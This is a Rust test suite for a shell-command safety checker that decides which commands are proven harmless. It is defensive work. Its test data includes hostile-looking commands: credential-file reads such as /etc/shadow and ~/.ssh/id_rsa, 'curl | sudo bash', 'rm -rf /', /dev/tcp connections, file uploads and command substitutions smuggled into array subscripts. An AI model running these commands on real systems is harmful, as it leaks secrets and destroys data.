//! What commands do, and which are proven harmless.
#![allow(clippy::unwrap_used, clippy::panic)]

use std::path::Path;

use car_router::Router;
use car_router::safety::{
    CommandEffects, Harmlessness, NetworkDirection, PathEffect, PathScope, Workspace,
};
use proptest::prelude::*;
use serde::Deserialize;

#[derive(Deserialize)]
struct RuleVectors {
    hits: Vec<String>,
}

fn effects(command: &str) -> CommandEffects {
    Router::new().command_effects(command, &Workspace::default())
}

fn is_proven(command: &str) -> bool {
    effects(command).harmless == Harmlessness::Proven
}

/// Returns the dangerous commands of the vectors.
fn dangers() -> Vec<String> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("vectors/safety");
    let mut all = Vec::new();
    for file in std::fs::read_dir(folder).unwrap() {
        let text = std::fs::read_to_string(file.unwrap().path()).unwrap();
        let rules: std::collections::BTreeMap<String, toml::Value> = toml::from_str(&text).unwrap();
        for rule in rules.into_values() {
            if let Ok(vectors) = rule.try_into::<RuleVectors>() {
                all.extend(vectors.hits);
            }
        }
    }
    assert!(all.len() > 1000, "{}", all.len());
    all
}

/// Commands that only read.
const READING: [&str; 44] = [
    "ls -la src",
    "cat README.md",
    "head -n 20 src/main.rs",
    "tail -f app.log",
    "wc -l src/lib.rs",
    "grep -rn TODO src",
    "rg --files",
    "sort names.txt",
    "uniq -c names.txt",
    "diff a.txt b.txt",
    "cut -d, -f1 data.csv",
    "jq .name package.json",
    "sed -n '1,20p' notes.txt",
    "sed 's/a/b/g' notes.txt",
    "awk '{print $1}' data.txt",
    "find . -name '*.rs' -mtime -2",
    "fd main src",
    "tree -L 2",
    "stat Cargo.toml",
    "du -sh target",
    "df -h",
    "ps aux",
    "uname -a",
    "whoami",
    "date +%F",
    "pwd",
    "which cargo",
    "echo hello world",
    "git status",
    "git log --oneline -5",
    "git diff HEAD~1 -- src",
    "git show HEAD",
    "git branch -a",
    "git remote -v",
    "git stash list",
    "docker ps -a",
    "docker logs web",
    "systemctl status nginx",
    "journalctl -u nginx -n 50",
    "npm ls --depth=0",
    "pip list",
    "cargo --list",
    "tar -tzf archive.tgz",
    "test -f Cargo.toml",
];

/// Contexts that change nothing, with `{}` for the command.
const CONTEXTS: [&str; 12] = [
    "{}",
    "{} | head",
    "{} 2>/dev/null",
    "{} 2>&1",
    "cd src && {}",
    "{} || true",
    "({})",
    "{} ; pwd",
    "time {}",
    "timeout 5 {}",
    "if {}; then echo yes; fi",
    "{} | sort | uniq -c | sort -rn",
];

/// Contexts that change something or hide what runs.
const CHANGING: [&str; 12] = [
    "{} > out.txt",
    "{} >> out.txt",
    "{} | tee out.txt",
    "{} | sh",
    "{} && rm out.txt",
    "sudo {}",
    "ssh host {}",
    "PAGER=./run.sh {}",
    "nohup {} &",
    "{} | xargs rm",
    "eval \"$X\"; {}",
    "./run.sh; {}",
];

#[test]
fn commands_that_only_read_are_proven_in_every_context() {
    let mut wrong = Vec::new();
    for command in READING {
        for context in CONTEXTS {
            let text = context.replace("{}", command);
            let found = effects(&text);
            if found.harmless != Harmlessness::Proven {
                wrong.push(format!("{text}: {:?}", found.unproven));
            }
        }
    }
    assert!(wrong.is_empty(), "{}\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn what_changes_something_is_never_proven() {
    let texts = READING.iter().flat_map(|command| {
        CHANGING
            .iter()
            .map(move |context| context.replace("{}", command))
    });
    let wrong: Vec<String> = texts.filter(|text| is_proven(text)).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Ways in which a variable gets a value that is not in the text.
const UNKNOWN_VALUES: [&str; 6] = [
    "IFS= read -r x < names.txt",
    "x=$(cat names.txt)",
    "x=`head -n 1 names.txt`",
    "read -r x < names.txt",
    "cat names.txt | while read -r x; do ls; done",
    "for x in $(cat names.txt); do ls; done",
];

/// Uses of a variable that may run what is in its value.
const EVALUATING: [&str; 31] = [
    "a[x]=1",
    "a[x]+=1",
    "a[0]=1; echo ${#a[x]}",
    "read -r 'a[x]' < names.txt",
    "echo ${*:x}",
    "echo ${?:x}",
    "echo ${-:x:1}",
    "echo ${a[@]:x:1}",
    "echo ${a[0]:x}",
    "echo ${x[@]@P}",
    "echo $'\\''; echo $((x))",
    "ls # don't\necho $((x))",
    "printf '%d' \"$x\"",
    "printf '%n' PATH",
    "[ -t \"$x\" ] && ls",
    "echo $((x))",
    "((x)) && ls",
    "echo $[x]",
    "let y=x",
    "[[ $x -eq 1 ]] && ls",
    "[[ x -gt 1 ]] && ls",
    "if [[ $x -lt 3 ]]; then ls; fi",
    "[ \"$x\" -eq 1 ] && ls",
    "test -v \"$x\" && ls",
    "echo ${a[$x]}",
    "echo ${a:$x}",
    "echo ${x@P}",
    "echo ${!x}",
    "eval \"$x\"",
    "$x",
    "sh -c \"$x\"",
];

/// Values of the environment, which may be secret, or what somebody else put there.
const OF_THE_ENVIRONMENT: [&str; 4] = [
    "x=$FOO",
    "x=\"$GITHUB_TOKEN\"",
    "x=\"$(date)-$FOO\"",
    "x=${FOO}",
];

/// Uses of a variable that only print its value, or compare it as a text.
const PRINTING: [&str; 5] = [
    "echo \"$x\"",
    "printf '%s\\n' \"$x\"",
    "[[ $x == yes ]] && ls",
    "[ -n \"$x\" ] && ls",
    "echo \"${x}\" | sort",
];

#[test]
fn a_value_that_is_not_known_is_printed_and_never_evaluated() {
    let mut wrong = Vec::new();
    for value in UNKNOWN_VALUES {
        for (uses, expected) in [(&EVALUATING[..], false), (&PRINTING[..], true)] {
            for used in uses {
                for text in [
                    format!("{value}; {used}"),
                    format!("{value} && {{ {used}; }}"),
                ] {
                    if is_proven(&text) != expected {
                        wrong.push(format!("{text}: {:?}", effects(&text).unproven));
                    }
                }
            }
        }
    }
    for value in OF_THE_ENVIRONMENT {
        for used in EVALUATING.iter().chain(&PRINTING) {
            let text = format!("{value}; {used}");
            if is_proven(&text) {
                wrong.push(text);
            }
        }
    }
    assert!(wrong.is_empty(), "{}\n{}", wrong.len(), wrong.join("\n"));
}

/// Programs that run a file × words that would ask for help or a list, behind that file.
#[test]
fn an_option_behind_the_file_that_runs_is_one_of_that_file() {
    let programs = [
        "python3",
        "python3.11",
        "node",
        "ruby",
        "perl",
        "php",
        "lua",
        "java",
        "deno",
        "bun",
        "bash",
        "sh",
        "awk",
    ];
    for program in programs {
        for option in ["--help", "--version", "-V", "-h"] {
            for file in ["evil", "./evil.x", "dir/evil"] {
                let text = format!("{program} {file} {option}");
                assert!(!is_proven(&text), "{text}");
            }
        }
    }
    for text in [
        "unzip a.zip -l",
        "unzip a.zip -Z",
        "gzip a -t",
        "dotnet evil --help",
        "kubectl evil --help",
        "kill 1234 --help",
        "rm x --help",
        "sort $(find . -maxdepth 0 -printf '-oevil')",
        "sort $(find . -type f)",
        "git log -m \"$(ls)\"",
        "cat $(seq -f '/etc/sha%gow' 1)",
    ] {
        assert!(!is_proven(text), "{text}");
    }
    for text in [
        "python3 --version",
        "node --help",
        "unzip -l a.zip",
        "git log --help",
    ] {
        assert!(is_proven(text), "{text}");
    }
}

/// An option that is switched off is not there.
#[test]
fn an_option_that_is_switched_off_proves_nothing() {
    for (option, rest) in [
        ("-s", "install x"),
        ("--simulate", "install x"),
        ("--dry-run", "upgrade"),
    ] {
        for no in ["no", "false", "0", "off", "False", "NO"] {
            let text = format!("apt-get {option}={no} {rest}");
            assert!(!is_proven(&text), "{text}");
        }
    }
    assert!(!is_proven("docker compose config --services=false"));
}

/// Patterns of files that can be no expression of find × ways to call it; those that can be one take the proof away.
#[test]
fn a_pattern_of_files_may_stand_in_a_search_unless_it_may_be_an_expression() {
    let calls = [
        "find . -name {}",
        "find src -type f -iname {}",
        "find . -not -path {} -print",
        "find . -name {} | xargs grep -n x",
    ];
    let mut wrong = Vec::new();
    for call in calls {
        for pattern in ["*.rs", "part*.csv", "?a*.txt", "*/", "lib*.so"] {
            let text = call.replace("{}", pattern);
            if !is_proven(&text) {
                wrong.push(text);
            }
        }
        for pattern in ["*", "-*", "*delete", "?exec", "*e*", "?ok*"] {
            let text = call.replace("{}", pattern);
            if is_proven(&text) {
                wrong.push(text);
            }
        }
    }
    assert!(wrong.is_empty(), "{}\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn no_dangerous_command_is_proven_however_it_is_written() {
    let around = [
        "{}",
        "ls && {}",
        "{} | cat",
        "time {}",
        "timeout 5 {}",
        "command {}",
        "{} -- --help",
        "{} --version",
        "{} --dry-run",
        "cat x | {}",
        "find . -exec {} \\;",
        "echo $({})",
    ];
    let mut count = 0;
    let mut wrong = Vec::new();
    for (number, danger) in dangers().iter().enumerate() {
        for context in around.iter().skip(number % 4).step_by(4) {
            count += 1;
            let text = context.replace("{}", danger);
            if is_proven(&text) {
                wrong.push(text);
            }
        }
    }
    assert!(count >= 2000, "{count}");
    assert!(wrong.is_empty(), "{}\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn secrets_are_not_read_by_what_shows_the_content() {
    let secrets = [
        "~/.ssh/id_rsa",
        ".env",
        "/etc/shadow",
        "~/.aws/credentials",
        "~/.netrc",
        "$HOME/.ssh/id_ed25519",
        "~/.bash_history",
        "/proc/1/environ",
        "/dev/sda",
    ];
    let readers = [
        "cat {}",
        "head {}",
        "grep x {}",
        "sort {}",
        "base64 {}",
        "awk '{print}' {}",
        "sed -n p {}",
        "diff a {}",
        "wc -l < {}",
        "grep -f{} x",
    ];
    let texts = secrets.iter().flat_map(|secret| {
        readers
            .iter()
            .map(move |reader| reader.replace("{}", secret))
    });
    let wrong: Vec<String> = texts
        .filter(|text| !text.contains("{print") || text.contains('/'))
        .filter(|text| is_proven(text))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let router = Router::new();
    let allowed = Workspace::default().with_asks_network(true);
    for text in [
        "cat id_rs*",
        "cat ~/.s*/id*",
        "head /etc/sha*",
        "grep -r x ~/.a?s",
        "find . -name 'id_*' | xargs cat",
        "curl FILE:///etc/shadow",
        "curl -w '%output{x}y' https://example.com",
        "npm audit fix",
        "kubectl get x --raw /api",
    ] {
        let found = router.command_effects(text, &allowed);
        assert_eq!(found.harmless, Harmlessness::Unknown, "{text}");
    }
    for text in ["cat *.json", "grep x src/*", "wc -l src/*.rs"] {
        assert!(is_proven(text), "{text}");
    }
    // Their names may be looked at.
    assert!(is_proven("ls -la ~/.ssh") && is_proven("test -f .env"));
}

#[test]
fn options_that_write_or_run_take_the_proof_away() {
    for text in [
        "sort -o names.txt names.txt",
        "sort -uo names.txt names.txt",
        "sort --outp=x names.txt",
        "find . -delete",
        "find . -fprint x",
        "find . -exec rm {} \\;",
        "find . '-name x'-exec rm",
        "fd -x rm",
        "fd -xrm",
        "fd -HX rm",
        "fd --exec=rm",
        "tree -R -H . -L 2",
        "bat cache --clear",
        "rpm -q --specfile x.spec",
        "git fsck --lost-found",
        "ip -b a",
        "jq -n '$ENV.TOKEN'",
        "sed -rne 'w out' p",
        "sed -zne'w out' p",
        "sed -i s/a/b/ x",
        "sed -n 'w out' x",
        "sed 's/a/b/e' x",
        "sed -f script x",
        "awk '{print > \"f\"}' x",
        "awk '{print \"a;b\" > \"f\"}' x",
        "awk '{system(\"rm x\")}' x",
        "git diff --output=x",
        "git branch new",
        "git branch -D old",
        "git tag v1",
        "git -c core.pager=./x log",
        "git stash",
        "git grep -O./x foo",
        "date -s 12:00",
        "date 010203042026",
        "uniq a b",
        "xxd a b",
        "tree -o x",
        "hostname new",
        "sysctl -w kernel.x=1",
        "sysctl kernel.x=1",
        "tar -xf a.tar",
        "tar -tf a.tar --to-command=./x",
        "docker rm web",
        "docker -H tcp://h ps",
        "npm version patch",
        "npm audit fix",
        "go env -w X=1",
        "printf -v x y",
        "kubectl get secrets",
        "yq -i .a=1 x.yml",
        "jq env x",
        "curl -o x https://h/x",
        "curl -d @x https://h",
        "xargs -a list cat",
        "unknown-program --version x",
    ] {
        assert!(!is_proven(text), "{text}");
    }
}

#[test]
fn what_is_evaluated_later_takes_the_proof_away() {
    for command in [
        "[[ -v 'a[$(rm x)]' ]]",
        "test -v 'a[$(rm x)]'",
        "read 'a[$(rm x)]' < names.txt",
        "x='a[$(rm x)]'; echo $((x))",
        "x=$(cat names.txt); echo $((x))",
        "while read -r n; do echo $((n + 1)); done < names.txt",
        "echo \"${x@P}\"",
        "PATH=. ls",
        "path=/tmp; ls",
        "GIT_PAGER=./x git log",
        "count=1 sort names.txt",
        "./sed -n p names.txt",
        "tools/ls",
        "cat < /dev/tcp/example.com/80",
        "tar tf host:archive.tar",
        "tar xzf archive.tgz",
        "ps auxe",
        "cat /dev/kmem",
        "git stash -- list",
        "systemctl --message status reboot",
    ] {
        assert!(!is_proven(command), "{command}");
    }
    for command in [
        "count=3; head -n \"$count\" names.txt",
        "LC_ALL=C sort names.txt",
        "echo $((1 + 2))",
        "/usr/bin/sed -n 1,5p names.txt",
        "tar tzf archive.tgz",
        "ps aux | head",
        "awk '$3 > 2 {print ($1 > $2) ? \"a\" : \"b\"}' names.txt",
        "sed ':a;N;$!ba;s/\\n/ /g' names.txt",
        "cut -d/ -f2 names.txt | grep '.*\\.rs'",
        "find . -name '*.rs' | xargs -I{} head -n 1 {}",
    ] {
        assert!(is_proven(command), "{command}: {:?}", effects(command));
    }
}

#[test]
fn asking_another_computer_is_harmless_only_where_that_is_allowed() {
    let router = Router::new();
    let allowed = Workspace::default().with_asks_network(true);
    for text in [
        "kubectl get pods -n web",
        "curl -s https://example.com",
        "gh pr list",
        "aws ec2 describe-instances",
        "npm view serde version",
        "git ls-remote origin",
    ] {
        assert!(!is_proven(text), "{text}");
        let found = router.command_effects(text, &allowed);
        assert_eq!(
            found.harmless,
            Harmlessness::Proven,
            "{text}: {:?}",
            found.unproven
        );
        assert_eq!(
            found.network[0].direction,
            NetworkDirection::ReadsOnly,
            "{text}"
        );
    }
    let no_services = Workspace::default().with_asks_services(false);
    let found = router.command_effects("docker ps", &no_services);
    assert_eq!(found.harmless, Harmlessness::Unknown);
    assert!(found.asks_services);
}

#[test]
fn paths_are_inside_or_outside_of_the_workspace() {
    let workspace = Workspace::new("/work/app").with_reads_outside(false);
    let router = Router::new();
    let scope = |text: &str| {
        let found = router.command_effects(text, &workspace);
        (found.harmless, found.reads.last().map(|path| path.scope))
    };
    for (text, scope_of) in [
        ("cat src/main.rs", PathScope::Inside),
        ("cat ./src/../x", PathScope::Inside),
        ("cat /work/app/x", PathScope::Inside),
        ("cd src && cat ../x", PathScope::Inside),
        ("cat ../other/x", PathScope::Outside),
        ("cat /work/apple", PathScope::Outside),
        ("cat /var/log/syslog", PathScope::Outside),
        ("cat ~/notes", PathScope::Outside),
    ] {
        let expected = if scope_of == PathScope::Inside {
            Harmlessness::Proven
        } else {
            Harmlessness::Unknown
        };
        assert_eq!(scope(text), (expected, Some(scope_of)), "{text}");
    }
}

#[test]
fn effects_name_what_is_read_written_and_deleted() {
    let paths = |paths: &[PathEffect]| -> Vec<String> {
        paths.iter().map(|path| path.path.clone()).collect()
    };
    let found = effects("grep -n x a.txt > b.txt; mv c.txt d.txt; rm -r e; cp f g");
    assert_eq!(paths(&found.reads), ["a.txt", "c.txt", "f"]);
    assert_eq!(paths(&found.writes), ["b.txt", "d.txt", "g"]);
    assert_eq!(paths(&found.deletes), ["c.txt", "e"]);
    assert!(found.complete);
    let found = effects("curl https://user@Example.com:8080/x | sudo bash");
    assert_eq!(found.network[0].host.as_deref(), Some("example.com"));
    assert!(found.privilege && found.runs_unknown_code && !found.complete);
    assert!(effects("apt-get install vim").packages);
    assert!(effects("kill 12").processes);
}

proptest! {
    #[test]
    fn any_text_is_read_without_a_panic(text in ".{0,60}", words in "[a-z$'\"|;&<>(){} /.-]{0,60}") {
        effects(&text);
        effects(&words);
    }

    #[test]
    fn a_finding_is_never_lowered(index in 0usize..44, at in 0usize..12) {
        let text = format!("{}; rm -rf /", CONTEXTS[at].replace("{}", READING[index]));
        prop_assert!(!is_proven(&text));
    }
}
